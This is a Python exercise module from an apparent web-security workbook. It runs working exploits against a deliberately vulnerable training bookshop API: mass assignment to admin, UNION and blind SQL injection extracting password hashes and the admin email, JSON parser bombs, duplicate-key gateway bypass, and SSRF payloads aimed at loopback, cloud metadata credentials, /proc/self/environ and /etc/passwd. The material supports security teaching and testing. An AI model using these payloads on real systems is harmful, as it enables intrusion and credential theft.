"""What people send to a shop that looks at nothing: the exploits of chapter 2, by the exercise whose defence they try.

    POST /api/users                      {…, "role": "admin"}
    GET /api/books/search?q=x%')) UNION SELECT …, password_hash, … FROM users --
    POST /api/books/1/cover              {"url": "http://0x7f.1/"}

`shop` is the app as the internet sees it, and workbook/serve/internet.py is the internet as the app sees it. Each
exploit first does what an honest person does, so that an app which refuses everything is called broken and not safe. It
shares no code with the checks: what counts here is the loot.
"""

import json

import httpx
from argon2 import PasswordHasher

from workbook.book import accounts
from workbook.learn.exploits import Crashed, Failure, Loot, Outcome, Stopped, excerpt, expect, exploit, said, stopped_by
from workbook.learn.shop import Shop
from workbook.serve.internet import KEY_OF_THE_TILL

DORA = {"name": "Dora Weiss", "email": "dora@example.org", "password": "Violet, 7 umbrellas"}
LOOK_ALIKES = ("\u202enimda", "ad\u200bmin", "a\u0000dmin", "admin\u3164", "admin\n", "admin ", " admin")
TOP_OF_THE_LIST = ("Password1!", "Welcome1!", "P@ssw0rd2024!")  # of leaked passwords, as house rules have shaped them
VOYAGE = {"title": "The Voyage Out", "author": "Virginia Woolf"}
TWO_NUMBERS = ("978-0-14-118227-8", "0-14-118227-X")  # of one book
IMAGE = "http://covers.test/cover.png"
SPELLINGS = ("127.1", "2130706433", "0x7f.1", "0177.0.0.1", "0", "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]")
ENVIRONMENT, ACCOUNTS = "file:///proc/self/environ", "file:///etc/passwd"
JSON = {"Content-Type": "application/json"}


# 2.1 Who registers ----------------------------------------------------------------------------------------------------


@exploit("2.1", "API3", "a stranger registers as an administrator")
def register_as_administrator(shop: Shop) -> Outcome:
    """One property more in a body that may be sent (mass assignment)."""
    registered(shop)
    answer = shop.stranger().post("/api/users", json=DORA | {"email": "mallory@example.org", "role": "admin"})
    if answer.status_code != 201:
        return stopped_by(answer)
    return of_an_administrator(shop.log_in("mallory@example.org", DORA["password"]), answer)


@exploit("2.1", "API3", "alice makes herself an administrator")
def promote_oneself(shop: Shop) -> Outcome:
    """The same property, in the change of an account."""
    alice = shop.sign_in("alice")
    expect(alice.patch("/api/users/me", json={"age": 35}))
    return of_an_administrator(alice, alice.patch("/api/users/me", json={"role": "admin"}))


@exploit("2.1", "API3", "a thief sets a password of his own for alice")
def keep_an_account(shop: Shop) -> Outcome:
    """Somebody has alice's session for a moment, and sets the hash of a password of his own: no one asks for hers."""
    alice, his = shop.sign_in("alice"), "the password of a thief"
    expect(alice.patch("/api/users/me", json={"name": "alice"}))
    thief = shop.stranger(cookies=dict(alice.cookies))
    planted = thief.patch("/api/users/me", json={"password_hash": PasswordHasher(time_cost=1).hash(his)})
    who = {"email": "alice@example.org", "password": his}
    answer = shop.stranger().post("/api/auth/login", json=who)
    if answer.status_code == 200:
        hers = shop.stranger().post("/api/auth/login", json=who | {"password": accounts.password("alice")})
        return Loot(f"{answer.json()['user']['email']} signs in with {his!r}; with her own password: {said(hers)}")
    return stopped_by(planted)


@exploit("2.1", "ASVS 2", "a name that looks like the administrator's")
def look_like_the_administrator(shop: Shop) -> Outcome:
    """Characters that nobody sees, or that turn the others round: one name to a reader, two to every comparison."""
    registered(shop)
    seen = []
    for number, name in enumerate(LOOK_ALIKES):
        user = DORA | {"name": name, "email": f"mallory{number}@example.org"}
        answer = shop.stranger().post("/api/users", json=user)
        if answer.status_code == 201:
            account = expect(shop.sign_in("alice").get(answer.headers["Location"])).json()
            seen.append(f"{account['name']!a} (account {account['id']})")
    if seen:
        return Loot(f"what alice reads as admin may be {', '.join(seen)}")
    return Stopped(f"none of {len(LOOK_ALIKES)} is taken, the last with {said(answer)}")


# 2.2 With which password ----------------------------------------------------------------------------------------------


@exploit("2.2", "API2", "the first guesses of every attacker")
def guess_a_common_password(shop: Shop) -> Outcome:
    """Dora keeps to the house rule and no more. Nobody needs many guesses, so no limit helps her."""
    registered(shop, email="eve@example.org")
    answer = shop.stranger().post("/api/users", json=DORA | {"password": "P@ssw0rd2024!"})
    return guessed(shop, answer, TOP_OF_THE_LIST)


@exploit("2.2", "API2", "the password is the name, dressed up")
def guess_from_the_name(shop: Shop) -> Outcome:
    """The name is public."""
    registered(shop, email="eve@example.org")
    answer = shop.stranger().post("/api/users", json=DORA | {"password": "Dora-Weiss1"})
    first, last = DORA["name"].split()
    return guessed(shop, answer, (f"{first}1!", f"{first}{last}1!", f"{first}-{last}1"))


# 2.3 Which books ------------------------------------------------------------------------------------------------------


@exploit("2.3", "ASVS 2", "one book, sold under two numbers")
def sell_under_two_numbers(shop: Shop) -> Outcome:
    """The thirteen digits and the ten of one ISBN."""
    editor = shop.sign_in("admin")
    first = expect(editor.post("/api/books", json=VOYAGE | {"isbn": TWO_NUMBERS[0]}), 201).json()
    answer = editor.post("/api/books", json=VOYAGE | {"isbn": TWO_NUMBERS[1]})
    if answer.status_code == 201:
        second = answer.json()
        numbers = f"as {first['isbn']} and as {second['isbn']}"
        return Loot(f"{second['title']!r} is there {numbers}: who withdraws the one leaves the other on sale")
    return stopped_by(answer)


@exploit("2.3", "API4", "one title fills everybody's list")
def swell_the_list(shop: Shop) -> Outcome:
    """A body may have a megabyte. If that is all that limits a title, a hundred titles have a hundred."""
    editor, newest = shop.sign_in("admin"), "/api/books?sort=created_at&dir=desc"
    expect(editor.post("/api/books", json=VOYAGE), 201)
    before = expect(shop.client().get(newest))
    answer = editor.post("/api/books", json=VOYAGE | {"title": "o" * 900_000})
    if answer.status_code == 201:
        after = len(expect(shop.client().get(newest)).content)
        return Loot(f"the list of the newest books has {after:,} bytes instead of {len(before.content):,}")
    return stopped_by(answer)


# 2.4 In what form -----------------------------------------------------------------------------------------------------


@exploit("2.4", "ASVS 2", "a gateway reads bob, and the shop reads alice")
def slip_past_a_gateway(shop: Shop) -> Outcome:
    """Alice's password has leaked, so a gateway refuses her logins. Of two members of one name it reads the first."""
    shop.sign_in("alice")
    stolen = json.dumps(accounts.password("alice"))
    body = f'{{"email": "bob@example.org", "email": "alice@example.org", "password": {stolen}}}'
    seen = json.loads(body, object_pairs_hook=lambda pairs: dict(reversed(pairs)))["email"]
    answer = shop.stranger().post("/api/auth/login", content=body, headers=JSON)
    if answer.status_code == 200:
        return Loot(f"the gateway lets {seen} pass; in the shop, {answer.json()['user']['email']} is signed in")
    return stopped_by(answer)


@exploit("2.4", "API4", "bodies that break the server")
def break_the_server(shop: Shop) -> Outcome:
    """Depth, numbers that are none, half of a character: what some parsers take, and no code behind them expects."""
    registered(shop)
    bombs = {
        "40,000 levels": ("age", "[" * 40_000 + "]" * 40_000),
        "900 levels": ("age", "[" * 900 + "]" * 900),
        "NaN": ("age", "NaN"),
        "1e999": ("age", "1e999"),
        "4,000 digits": ("age", "9" * 4000),
        "half of a surrogate pair": ("password", '"Violet, 7 umbrellas \\ud83d"'),
    }
    lines, broken = len(shop.log()), []
    for number, (what, (field, value)) in enumerate(bombs.items()):
        user = DORA | {"email": f"mallory{number}@example.org", field: "the bomb"}
        body = json.dumps(user).replace('"the bomb"', value)
        try:
            answer = shop.stranger().post("/api/users", content=body, headers=JSON)
        except Crashed:
            broken.append(what)
    if broken:
        return Loot(f"500 for {', '.join(broken)}, and the log is {len(shop.log()) - lines} lines longer")
    return Stopped(f"none of {len(bombs)} is a 500; the last is {said(answer)}")


# 2.5 What is asked ----------------------------------------------------------------------------------------------------


@exploit("2.5", "ASVS 1", "a search reads the table of users")
def search_the_users(shop: Shop) -> Outcome:
    """The quotation mark ends the text, UNION adds rows of another table, and -- makes a comment of the rest."""
    attacker = shop.client()
    expect(attacker.get("/api/books/search?q=whale"))
    in_place_of_a_books = "id, email, password_hash, NULL, NULL, NULL, NULL, NULL, 1, created_at, updated_at"
    q = f"no such book%')) UNION SELECT {in_place_of_a_books} FROM users --"
    answer = attacker.get("/api/books/search", params={"q": q})
    if answer.status_code == 200:
        found = answer.json()["items"]
        if found:
            people = ", ".join(f"{person['title']} {person['author'][:40]}…" for person in found[:2])
            return Loot(f"{len(found)} users with the hashes of their passwords: {people}, …")
        return Stopped("no book has this text in its title or author, and nothing else is searched")
    return stopped_by(answer)


@exploit("2.5", "ASVS 1", "the order of a list spells out an address")
def sort_by_a_secret(shop: Shop) -> Outcome:
    """Nothing of it is ever shown: each list is in one order or the other, which answers one question (blind SQL)."""
    attacker = shop.client()
    expect(attacker.get("/api/books?sort=title&dir=desc"))
    answer = sorted_by(attacker, "1 = 1")
    if answer.status_code != 200:
        return stopped_by(answer)
    if is_ascending(answer) == is_ascending(sorted_by(attacker, "1 = 0")):
        return Stopped("the order of the list says nothing")
    found, asked = "", 2
    while not found.endswith("\0"):
        character = f"unicode(substr((SELECT email FROM users WHERE role = 'admin'), {len(found) + 1}, 1))"
        low, high = 0, 127
        while low < high:
            middle = (low + high) // 2
            asked += 1
            if is_ascending(sorted_by(attacker, f"coalesce({character}, 0) > {middle}")):
                low = middle + 1
            else:
                high = middle
        found += chr(low)
    return Loot(f"the administrator's address, {found[:-1]}, from {asked} lists of books")


@exploit("2.5", "API4", "% finds every book")
def search_for_everything(shop: Shop) -> Outcome:
    """A wildcard of LIKE, as a way round every page and every filter, and as work for the database."""
    attacker = shop.client()
    few = expect(attacker.get("/api/books/search?q=whale")).json()["items"]
    found = expect(attacker.get("/api/books/search", params={"q": "%"})).json()["items"]
    without = [book for book in found if "%" not in book["title"] + book["author"]]
    if without:
        return Loot(f"{len(found)} books, where a word finds {len(few)}: {without[0]['title']!r} has no % in it")
    return Stopped(f"{len(found)} books have a % in their title or author")


# 2.6 What is fetched --------------------------------------------------------------------------------------------------


@exploit("2.6", "API7", "the cover of a book is the key of the till")
def fetch_from_loopback(shop: Shop) -> Outcome:
    """A service that only programs of the shop can reach, and that therefore asks for no password."""
    return covers_from(shop, "http://127.0.0.1/")


@exploit("2.6", "API7", "the cover is the cloud's credentials")
def fetch_the_credentials(shop: Shop) -> Outcome:
    """A link-local address at which every large cloud tells a machine about itself."""
    return covers_from(shop, "http://169.254.169.254/latest/meta-data/iam/security-credentials/shop")


@exploit("2.6", "API7", "loopback, spelt in eight other ways")
def fetch_from_other_spellings(shop: Shop) -> Outcome:
    """Shortened, as one number, in hexadecimal, in octal, over IPv6: a list of forbidden texts has not all of them."""
    return covers_from(shop, *(f"http://{spelling}/" for spelling in SPELLINGS))


@exploit("2.6", "API7", "a name of the attacker's that means loopback")
def fetch_by_name(shop: Shop) -> Outcome:
    """Whoever owns a name says which address it has."""
    return covers_from(shop, "http://inner.evil.test/")


@exploit("2.6", "API7", "a name whose address changes in between")
def fetch_by_a_name_that_changes(shop: Shop) -> Outcome:
    """Public for whoever asks first, to check it, and loopback for whoever asks again, to connect (DNS rebinding)."""
    return covers_from(shop, *["http://changes.test/"] * 2)


@exploit("2.6", "API7", "a redirect leads inside")
def fetch_by_redirect(shop: Shop) -> Outcome:
    """What was checked is evil.test, which is public."""
    return covers_from(shop, "http://evil.test/to?url=http://127.0.0.1/")


@exploit("2.6", "API7", "file: reads the secrets of the shop")
def fetch_a_file(shop: Shop) -> Outcome:
    """A URL need not lead into any network. Where there is no /proc (macOS), the list of accounts has to do."""
    editor = an_editor_with_a_cover(shop)
    for url in (ENVIRONMENT, ACCOUNTS):
        answer = editor.post("/api/books/1/cover", json={"url": url})
        text = cover(shop).text
        secret = next((entry for entry in text.split("\0") if entry.startswith("WEBHOOK_SECRET=")), "")
        if secret or "root:" in text:
            return Loot(f"{url}: {secret or excerpt(text[text.index('root:') :])}")
    return stopped_by(answer)


@exploit("2.6", "API7", "evil.test's page, at the shop's own address")
def fetch_a_page(shop: Shop) -> Outcome:
    """What the shop sends is believed to be the shop's."""
    answer = an_editor_with_a_cover(shop).post("/api/books/1/cover", json={"url": "http://evil.test/page.html"})
    shown = cover(shop)
    if "html" in shown.headers["Content-Type"]:
        return Loot(f"{shown.request.url}: {excerpt(shown.text)}")
    return stopped_by(answer)


@exploit("2.6", "API4", "a server that drips holds a thread")
def drip(shop: Shop) -> Outcome:
    """A byte every twentieth of a second: no single wait is long. Eight such requests have all eight threads."""
    url = "http://evil.test/drip.png?seconds=4"
    answer = an_editor_with_a_cover(shop).post("/api/books/1/cover", json={"url": url})
    if answer.is_success:
        return Loot(f"a thread waited 4 seconds for {answer.json()['bytes']} bytes, where a fetch may take 1")
    return stopped_by(answer)


@exploit("2.6", "API4", "a cover that does not end")
def fill_the_memory(shop: Shop) -> Outcome:
    """As many bytes as the attacker likes, through the memory of the shop into its database."""
    url = "http://evil.test/long.png?bytes=3000000"
    answer = an_editor_with_a_cover(shop).post("/api/books/1/cover", json={"url": url})
    if answer.is_success:
        return Loot(f"a cover of {len(cover(shop).content):,} bytes, where 2,000,000 are allowed")
    return stopped_by(answer)


# What they have in common ---------------------------------------------------------------------------------------------


def registered(shop: Shop, **other: str) -> None:
    """An honest person registers."""
    expect(shop.stranger().post("/api/users", json=DORA | other), 201)


def of_an_administrator(person: httpx.Client, answer: httpx.Response) -> Outcome:
    """What only administrators may read, if the change that was answered has made one of this person."""
    listed = person.get("/api/users")
    if listed.status_code == 200:
        users = ", ".join(f"{user['name']} ({user['role']})" for user in listed.json()["items"])
        return Loot(f"GET /api/users, for administrators only: {users}")
    return Stopped(f"{answer.request.method} {said(answer)} Then GET /api/users {listed.status_code}")


def guessed(shop: Shop, answer: httpx.Response, passwords: tuple[str, ...]) -> Outcome:
    """Try the passwords on dora, whose registration was answered so."""
    if answer.status_code != 201:
        return stopped_by(answer)
    for guesses, password in enumerate(passwords, start=1):
        login = shop.stranger().post("/api/auth/login", json={"email": DORA["email"], "password": password})
        if login.status_code == 200:
            return Loot(f"the account of {login.json()['user']['email']}, at guess {guesses}: {password!r}")
    raise Failure("dora has registered, and cannot sign in with her password")


def sorted_by(attacker: httpx.Client, condition: str) -> httpx.Response:
    """The list of books, with the first ids first where the condition holds, and last where it does not."""
    sort = f"CASE WHEN {condition} THEN books.id ELSE -books.id END"
    return attacker.get("/api/books", params={"sort": sort})


def is_ascending(answer: httpx.Response) -> bool:
    """Whether a list begins with the lower id."""
    first, second, *_ = expect(answer).json()["items"]
    return bool(first["id"] < second["id"])


def an_editor_with_a_cover(shop: Shop) -> httpx.Client:
    """An administrator, who has just given book 1 a cover that a publisher named; the next one names another place."""
    editor = shop.sign_in("admin")
    expect(editor.post("/api/books/1/cover", json={"url": IMAGE}), 201)
    if cover(shop).headers["Content-Type"] != "image/png":
        raise Failure(f"GET /api/books/1/cover does not show the image of {IMAGE}")
    return editor


def cover(shop: Shop) -> httpx.Response:
    """The cover of book 1, as everybody can see it."""
    return expect(shop.client().get("/api/books/1/cover"))


def covers_from(shop: Shop, *urls: str) -> Outcome:
    """Name these places, one after the other, and read back as the cover what the shop has found there."""
    editor, told, text = an_editor_with_a_cover(shop), [], ""
    for url in urls:
        answer = editor.post("/api/books/1/cover", json={"url": url})
        shown = cover(shop)
        if KEY_OF_THE_TILL in shown.text and answer.is_success:
            told.append(url)
            text = excerpt(shown.text)
    return Loot(f"{', '.join(dict.fromkeys(told))}: {text}") if told else stopped_by(answer)
